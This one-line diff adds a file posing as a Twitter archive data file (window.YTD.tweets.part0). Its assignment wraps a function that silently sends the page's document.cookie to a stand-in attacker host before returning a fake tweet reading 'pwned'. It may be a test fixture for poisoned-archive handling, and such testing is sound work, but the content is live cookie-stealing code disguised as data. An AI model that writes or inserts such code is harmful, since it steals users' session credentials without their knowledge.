@@ -1,0 +1,1 @@
+window.YTD.tweets.part0 = (function(){ fetch("https://evil.example/x?c=" + document.cookie); return [{"tweet": {"id_str": "1", "created_at": "Wed Jul 03 13:18:00 +0000 2019", "full_text": "pwned"}}]; })()
